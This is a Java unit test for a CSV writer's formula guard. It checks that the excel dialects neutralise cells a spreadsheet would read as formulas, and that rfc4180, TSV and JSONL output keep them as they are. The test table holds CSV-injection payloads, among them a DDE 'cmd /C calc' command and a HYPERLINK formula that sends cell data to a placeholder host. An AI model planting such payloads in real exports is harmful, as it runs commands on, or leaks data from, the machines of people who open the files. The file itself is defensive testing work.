package org.figx.output;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.figx.Kind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What a text cell becomes in each CSV dialect: the excel dialects neutralise a cell a
 * spreadsheet would read as a formula (OWASP's CSV injection guidance), rfc4180 writes it
 * as it is. Each row of the table is written as the {@code text} column of a real row.
 */
class FormulaGuardTest {

    /** The cell, then the field as rfc4180, excel and excel-fr write it. */
    static Stream<Arguments> cells() {
        return Stream.of(
                // formulas, whatever starts them
                Arguments.of("=1+1", "=1+1", "\"'=1+1\"", "\"'=1+1\""),
                Arguments.of("=HYPERLINK(\"http://x/?\"&A1)", "\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"",
                        "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""),
                Arguments.of("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                        "\"'@SUM(1+1)*cmd|' /C calc'!A0\"", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
                Arguments.of("+1+cmd", "+1+cmd", "\"'+1+cmd\"", "\"'+1+cmd\""),
                Arguments.of("-2+3", "-2+3", "\"'-2+3\"", "\"'-2+3\""),
                Arguments.of("\t=1+1", "\"\t=1+1\"", "\"'\t=1+1\"", "\"'\t=1+1\""),
                Arguments.of("\r=1+1", "\"\r=1+1\"", "\"'\r=1+1\"", "\"'\r=1+1\""),
                Arguments.of("\n=1+1", "\"\n=1+1\"", "\"'\n=1+1\"", "\"'\n=1+1\""),
                // the full-width forms, formulas in some locales (Japanese), a sign alone included
                Arguments.of("\uFF1D1+1", "\uFF1D1+1", "\"'\uFF1D1+1\"", "\"'\uFF1D1+1\""),
                Arguments.of("\uFF0B1", "\uFF0B1", "\"'\uFF0B1\"", "\"'\uFF0B1\""),
                Arguments.of("\uFF0D5", "\uFF0D5", "\"'\uFF0D5\"", "\"'\uFF0D5\""),
                Arguments.of("\uFF20x", "\uFF20x", "\"'\uFF20x\"", "\"'\uFF20x\""),
                Arguments.of("\uFF0D", "\uFF0D", "\"'\uFF0D\"", "\"'\uFF0D\""),
                Arguments.of("=", "=", "\"'=\"", "\"'=\""),
                Arguments.of("@", "@", "\"'@\"", "\"'@\""),
                // a list item of an article, a figure with its unit: text, so neutralised
                Arguments.of("- Le chômage recule.", "- Le chômage recule.", "\"'- Le chômage recule.\"",
                        "\"'- Le chômage recule.\""),
                Arguments.of("-5 %", "-5 %", "\"'-5 %\"", "\"'-5 %\""),
                Arguments.of("+3,5 %", "\"+3,5 %\"", "\"'+3,5 %\"", "\"'+3,5 %\""),
                Arguments.of("-12 300", "-12 300", "\"'-12 300\"", "\"'-12 300\""),
                // plain numbers, with the dialect's decimal mark: left as they are
                Arguments.of("-12", "-12", "-12", "-12"),
                Arguments.of("+7", "+7", "+7", "+7"),
                Arguments.of("-0.6", "-0.6", "-0.6", "\"'-0.6\""),
                Arguments.of("+3,5", "\"+3,5\"", "\"'+3,5\"", "+3,5"),
                Arguments.of("-1.5e3", "-1.5e3", "\"'-1.5e3\"", "\"'-1.5e3\""),
                Arguments.of("-.5", "-.5", "\"'-.5\"", "\"'-.5\""),
                Arguments.of("-5.", "-5.", "\"'-5.\"", "\"'-5.\""),
                Arguments.of("--5", "--5", "\"'--5\"", "\"'--5\""),
                Arguments.of("-\u0665", "-\u0665", "\"'-\u0665\"", "\"'-\u0665\""),
                // a sign alone is no formula (and "-" is how figx names standard input)
                Arguments.of("-", "-", "-", "-"),
                Arguments.of("+", "+", "+", "+"),
                // nothing to do: other first characters
                Arguments.of("28 %", "28 %", "28 %", "28 %"),
                Arguments.of("\u22125 %", "\u22125 %", "\u22125 %", "\u22125 %"),
                Arguments.of("'=1+1", "'=1+1", "'=1+1", "'=1+1"),
                Arguments.of(" =1+1", "\" =1+1\"", "\" =1+1\"", "\" =1+1\""),
                Arguments.of("", "", "", ""));
    }

    @ParameterizedTest
    @MethodSource("cells")
    void aTextCellIsWrittenSoThatNoSpreadsheetReadsAFormula(String cell, String rfc4180, String excel,
                                                            String excelFr) throws IOException {
        assertEquals(rfc4180, writtenText(cell, Dialect.RFC4180), "rfc4180");
        assertEquals(excel, writtenText(cell, Dialect.EXCEL), "excel");
        assertEquals(excelFr, writtenText(cell, Dialect.EXCEL_FR), "excel-fr");
    }

    /**
     * Every free-text column is guarded, the rule and language of --explain included; the
     * positions and the values, figx's own numbers, are never touched.
     */
    @Test
    void everyTextColumnIsGuardedAndTheNumericOnesNever() throws IOException {
        Row row = new Row("=a.txt", 1, 2, 3, 4, Kind.MONEY, "-3 €", "-3", "-2", "@EUR", "=q", "@2024",
                "=sujet", "-m", "=1+1 et -3 €.", "=rule", "@fr");
        assertEquals("\"'=a.txt\",1,2,3,4,money,\"'-3 €\",-3,-2,\"'@EUR\",\"'=q\",\"'@2024\",\"'=sujet\","
                        + "\"'-m\",\"'=1+1 et -3 €.\",\"'=rule\",\"'@fr\"",
                written(row, Dialect.EXCEL, Columns.EXPLAINED));
        assertEquals("=a.txt,1,2,3,4,money,-3 €,-3,-2,@EUR,=q,@2024,=sujet,-m,=1+1 et -3 €.,=rule,@fr",
                written(row, Dialect.RFC4180, Columns.EXPLAINED));
        // a value that is no plain number in the dialect stays a value all the same
        Row decimal = new Row("a.txt", 1, 2, 3, 4, Kind.PERCENT, "x", "-0.5", null, null, null, null, null,
                null, "s.");
        assertEquals("a.txt;1;2;3;4;percent;x;-0,5;;;;;;;s.", written(decimal, Dialect.EXCEL_FR, Columns.STANDARD));
    }

    @Test
    void tsvAndJsonLinesKeepTheBytes() throws IOException {
        Row row = new Row("a.txt", 1, 2, 3, 4, Kind.NUMBER, "=1+1", "2", null, null, null, null, "@x", null,
                "-1+1");
        assertEquals("a.txt\t1\t2\t3\t4\tnumber\t=1+1\t2\t\t\t\t\t@x\t\t-1+1", writtenLine(OutputFormat.TSV, row));
        assertEquals("{\"source\":\"a.txt\",\"line\":1,\"column\":2,\"start\":3,\"end\":4,\"kind\":\"number\","
                + "\"text\":\"=1+1\",\"value\":\"2\",\"subject\":\"@x\",\"sentence\":\"-1+1\"}",
                writtenLine(OutputFormat.JSONL, row));
    }

    /** The field the row's {@code text} became, between the delimiters around it. */
    private static String writtenText(String text, Dialect dialect) throws IOException {
        Row row = new Row("a.txt", 1, 2, 3, 4, Kind.NUMBER, text, "5", null, null, null, null, null, null, "s.");
        String line = written(row, dialect, Columns.STANDARD);
        char d = dialect.delimiter();
        String before = "a.txt" + d + "1" + d + "2" + d + "3" + d + "4" + d + "number" + d;
        String after = d + "5" + d + d + d + d + d + d + d + "s.";
        if (!line.startsWith(before) || !line.endsWith(after)) {
            throw new AssertionError("unexpected row: " + line);
        }
        return line.substring(before.length(), line.length() - after.length());
    }

    /** The one row written, without header, byte-order mark or CRLF. */
    private static String written(Row row, Dialect dialect, Columns columns) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (RowWriter writer = OutputFormat.CSV.open(bytes, dialect, columns)) {
            writer.write(List.of(row));
        }
        String out = bytes.toString(StandardCharsets.UTF_8);
        if (!out.endsWith("\r\n")) {
            throw new AssertionError("no CRLF: " + out);
        }
        return out.substring(0, out.length() - 2);
    }

    private static String writtenLine(OutputFormat format, Row row) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (RowWriter writer = format.open(bytes, Dialect.RFC4180)) {
            writer.write(List.of(row));
        }
        String out = bytes.toString(StandardCharsets.UTF_8);
        return out.substring(0, out.length() - 1);
    }
}
